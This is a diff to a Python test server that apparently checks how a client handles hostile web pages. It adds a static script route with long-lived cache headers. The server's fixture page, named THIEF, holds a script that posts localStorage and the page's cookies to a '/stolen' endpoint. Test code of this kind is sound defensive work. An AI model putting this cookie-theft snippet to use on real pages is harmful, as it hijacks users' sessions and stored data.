@@ -13,7 +13,7 @@ from typing import Any
 from label_project import SPAWN
 
 NOBODY = 65534
-THIEF = b"""<!doctype html><script>
+THIEF = b"""<!doctype html><script type="module" src="/static/app.js"></script><script>
 fetch("/stolen", { method: "POST", body: JSON.stringify({ ...localStorage, cookie: document.cookie }) });
 </script>"""
 
@@ -60,9 +60,14 @@ def _listen(port: int, pipe: Connection) -> None:
             body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
             seen.append((self.requestline, dict(self.headers.items()), body))
             is_page = self.path == "/"
+            is_script = self.path.startswith("/static/")
             content = THIEF if is_page else b'{"error": "no", "acknowledged": [], "person": "anna"}'
-            self.send_response(200 if is_page else status[0])
-            self.send_header("Content-Type", "text/html" if is_page else "application/json")
+            if is_script:
+                content = b"document.title = 'eve'"
+            kind = "text/html" if is_page else "text/javascript" if is_script else "application/json"
+            self.send_response(200 if is_page or is_script else status[0])
+            self.send_header("Content-Type", kind)
+            self.send_header("Cache-Control", "max-age=31536000, immutable" if is_script else "no-store")
             self.send_header("Content-Length", str(len(content)))
             self.end_headers()
             self.wfile.write(content)
